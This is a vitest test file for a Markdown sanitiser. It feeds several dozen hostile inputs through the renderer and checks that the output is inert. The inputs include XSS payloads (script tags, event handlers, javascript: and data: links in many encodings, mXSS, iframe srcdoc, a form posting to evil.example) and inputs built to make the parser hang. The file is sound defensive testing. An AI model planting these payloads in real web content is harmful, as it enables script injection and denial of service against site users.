import { defaultSchema } from 'hast-util-sanitize';
import { describe, expect, it } from 'vitest';

import { renderMarkdownHtml } from './html';
import { memberContentSchema } from './schema';

function render(source: string): string {
  return renderMarkdownHtml(source);
}

const ALLOWED_TAGS = new Set(memberContentSchema.tagNames);
const ALLOWED_ATTRIBUTES = new Set(['href', 'rel', 'title', 'class', 'tabindex', 'type', 'disabled', 'checked', 'start']);

function decodeEntities(value: string): string {
  const named: Record<string, string> = {
    amp: '&',
    lt: '<',
    gt: '>',
    quot: '"',
    apos: "'",
    colon: ':',
    tab: '\t',
    newline: '\n',
  };
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (entity, body: string) => {
    if (body[0] === '#') {
      const code = body[1] === 'x' || body[1] === 'X' ? Number.parseInt(body.slice(2), 16) : Number.parseInt(body.slice(1), 10);
      return Number.isFinite(code) && code <= 0x10ffff ? String.fromCodePoint(code) : '';
    }
    return named[body.toLowerCase()] ?? entity;
  });
}

const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE = /\s+([^\s=>/]+)(?:="([^"]*)")?/g;

/** Everything that would make the HTML active or restyle the page. */
function expectInert(html: string) {
  for (const tag of [
    'script',
    'iframe',
    'object',
    'embed',
    'svg',
    'math',
    'style',
    'link',
    'meta',
    'form',
    'img',
    'base',
    'button',
    'textarea',
    'select',
  ]) {
    expect(html).not.toMatch(new RegExp(`<${tag}[\\s/>]`, 'i'));
  }
  for (const [tagText, name = '', attributes = ''] of html.matchAll(TAG)) {
    expect(ALLOWED_TAGS, tagText).toContain(name.toLowerCase());
    // Attribute values are quoted and escaped; a title may say "onmouseover=" harmlessly.
    const tagWithoutValues = tagText.replace(/="[^"]*"/g, '=""');
    expect(tagWithoutValues).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tagWithoutValues).not.toMatch(/\sstyle\s*=/i);
    expect(tagWithoutValues).not.toMatch(/srcdoc|formaction/i);
    for (const [, attribute = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
      expect(ALLOWED_ATTRIBUTES, tagText).toContain(attribute.toLowerCase());
      // What a browser ignores in a URL, and invisible characters.
      const url = decodeEntities(value)
        .replace(/[\u0000-\u0020\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]/g, '')
        .toLowerCase();
      expect(url).not.toMatch(/javascript:|vbscript:|data:/);
    }
    if (name === 'a') {
      expect(tagText).toContain('rel="ugc nofollow noopener"');
      expect(tagText).not.toContain('target=');
    }
  }
}

const hostile: Array<[name: string, source: string]> = [
  // Script tags
  ['script tag', '<script>alert(1)</script>'],
  ['mixed-case script tag', '<ScRiPt>alert(1)</sCrIpT>'],
  ['split script tag', '<scr<script>ipt>alert(1)</script>'],
  ['nested script tags', '<script><script>alert(1)</script></script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['inline script in a paragraph', 'text <script>alert(1)</script> more'],
  ['script tag with a NUL byte', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['script after a blank line in a list', '- item\n\n  <script>alert(1)</script>'],
  // Event handlers
  ['onclick on div', '<div onclick="alert(1)">click</div>'],
  ['onmouseover on a', '<a href="https://ok.example" onmouseover="alert(1)">x</a>'],
  ['onmouseenter on p', '<p onmouseenter=alert(1)>x</p>'],
  ['onpointerdown inline', 'a <b onpointerdown="alert(1)">b</b> c'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['IMG javascript src', '<IMG SRC="javascript:alert(1)">'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['math href', '<math href="javascript:alert(1)">x</math>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['body onload', '<body onload=alert(1)>'],
  // javascript: links in every casing and encoding
  ['javascript link', '[x](javascript:alert(1))'],
  ['mixed-case javascript link', '[x](JaVaScRiPt:alert(1))'],
  ['tab entity in scheme', '[x](jav&#x09;ascript:alert(1))'],
  ['decimal tab entity in scheme', '[x](jav&#9;ascript:alert(1))'],
  ['entity-encoded first letter', '[x](&#106;avascript:alert(1))'],
  ['percent-encoded first letter', '[x](%6Aavascript:alert(1))'],
  ['&colon; entity', '[x](javascript&colon;alert(1))'],
  ['&#58; entity', '[x](javascript&#58;alert(1))'],
  ['leading spaces', '[x](   javascript:alert(1))'],
  ['angle-bracket destination', '[x](<javascript:alert(1)>)'],
  ['newline inside the scheme', '[x](java\nscript:alert(1))'],
  ['zero-width space in the scheme', '[x](java\u200Bscript:alert(1))'],
  ['NUL before the scheme', '[x](\u0000javascript:alert(1))'],
  ['fullwidth letter in the scheme', '[x](ｊavascript:alert(1))'],
  ['vbscript link', '[x](vbscript:msgbox(1))'],
  ['data: HTML link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['upper-case DATA: link', '[x](DATA:text/html,<script>alert(1)</script>)'],
  ['javascript image', '![x](javascript:alert(1))'],
  ['data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['tracking image', '![x](https://evil.example/track.png)'],
  // Reference-style and autolinks
  ['reference link to javascript', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['shortcut reference to javascript', '[x]\n\n[x]: javascript:alert(1) "title"'],
  ['reference image to javascript', '![x][r]\n\n[r]: javascript:alert(1)'],
  ['reference with entity-encoded scheme', '[x][r]\n\n[r]: jav&#x61;script:alert(1)'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['vbscript autolink', '<VBSCRIPT:alert(1)>'],
  ['data autolink', '<data:text/html,<script>alert(1)</script>>'],
  // Entities, CSS, raw links, frames
  ['entity-escaped script stays text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['CSS in a style attribute', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['fixed-position overlay', '<span style="position:fixed;inset:0">x</span>'],
  ['raw link with target', '<a href="https://evil.example" target=_blank>x</a>'],
  ['raw javascript link', '<a href="javascript:alert(1)">x</a>'],
  ['raw link with encoded newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe with javascript src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['stylesheet link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['style element', '<style>body{display:none}</style>'],
  ['base href', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['form action', '<form action="https://evil.example"><input name=password></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['HTML comment', '<!-- <script>alert(1)</script> -->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  // Spoilers, tables and other Markdown around HTML
  ['HTML inside an inline spoiler', '>!<img src=x onerror=alert(1)> and <script>alert(1)</script>!<'],
  ['javascript link inside an inline spoiler', '>![x](javascript:alert(1))!<'],
  ['HTML in a spoiler label', ':::spoiler <img src=x onerror=alert(1)> label\nbody\n:::'],
  ['link in a spoiler label', ':::spoiler [x](javascript:alert(1))\n:::'],
  ['HTML in a spoiler block', ':::spoiler\n<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n:::'],
  ['directive attributes', ':::spoiler[x]{onclick="alert(1)" style="color:red"}\nbody\n:::'],
  ['HTML in table cells', '| a | b |\n| - | - |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |'],
  ['HTML as link text', '[<img src=x onerror=alert(1)>](https://ok.example)'],
  ['quote in a link title', '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
  ['task list HTML', '- [ ] <input type="checkbox" onclick="alert(1)">'],
  ['unicode tag lookalike', '＜script＞alert(1)＜/script＞'],
  ['right-to-left override', '[\u202Eexe.gnp](javascript:alert(1))'],
];

describe('Markdown sanitising', () => {
  it('covers at least 45 hostile inputs', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(45);
  });

  it.each(hostile)('%s', (_name, source) => {
    expectInert(render(source));
  });

  it('keeps entity-escaped HTML as visible text', () => {
    expect(render('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe('<p>&lt;script>alert(1)&lt;/script></p>');
  });

  it('turns a tracking image into a link and never loads it', () => {
    expect(render('![x](https://evil.example/track.png)')).toBe(
      '<p><a href="https://evil.example/track.png" rel="ugc nofollow noopener">🖼 x</a></p>',
    );
  });

  it('keeps the text of a dropped link', () => {
    expect(render('[click me](JaVaScRiPt:alert(1))')).toBe('<p>click me</p>');
  });

  it('drops raw links, keeping their text', () => {
    expect(render('<a href="https://evil.example" target=_blank>x</a>')).toBe('<p>x</p>');
  });

  it('expectInert catches what it should', () => {
    expect(() => expectInert('<p><a href="jav&#x09;ascript:alert(1)" rel="ugc nofollow noopener">x</a></p>')).toThrow();
    expect(() => expectInert('<p onclick="x">x</p>')).toThrow();
    expect(() => expectInert('<img src="https://x">')).toThrow();
    expect(() => expectInert('<span style="color:red">x</span>')).toThrow();
  });

  it('allows no tag that hast-util-sanitize’s default schema would refuse, but a picture’s figure', () => {
    // The default omits figure and figcaption (plain structure, no URL, no script); img is kept to figures by `ancestors`.
    const pictureFrame = new Set(['figure', 'figcaption']);
    for (const tag of memberContentSchema.tagNames ?? [])
      if (!pictureFrame.has(tag)) expect(defaultSchema.tagNames).toContain(tag);
    expect(memberContentSchema.ancestors?.img).toEqual(['figure']);
  });
});

describe('Markdown on slow inputs', () => {
  // Each of these took seconds to minutes, or overflowed the stack, before
  // lib/markdown/bound-structure.ts; the test timeout is what fails if they return.
  const slow: Array<[name: string, source: string]> = [
    ['very long nested emphasis', `${'*'.repeat(20_000)}a${'*'.repeat(20_000)}`],
    ['alternating emphasis delimiters', `${'*_'.repeat(10_000)}a${'_*'.repeat(10_000)}`],
    ['thousands of emphasis runs in one paragraph', '**a'.repeat(10_000)],
    ['deeply nested blockquotes', `${'>'.repeat(20_000)} a`],
    ['deeply nested lists', `${'- '.repeat(10_000)}a`],
    ['ever deeper indentation', Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
    ['nested links', `${'[a '.repeat(5_000)}${'](x)'.repeat(5_000)}`],
    ['an unclosed bracket before a long paragraph', `[ ${'word '.repeat(8_000)}`],
    ['unmatched closing brackets', 'a] '.repeat(10_000)],
    ['many setext headings', 'a\n=\n'.repeat(3_000)],
    ['deeply nested inline spoilers', '>!'.repeat(20_000)],
    ['deeply nested block spoilers', ':::spoiler x\n'.repeat(3_000)],
  ];

  it.each(slow)('%s', { timeout: 15_000 }, (_name, source) => {
    expectInert(render(source));
  });
});
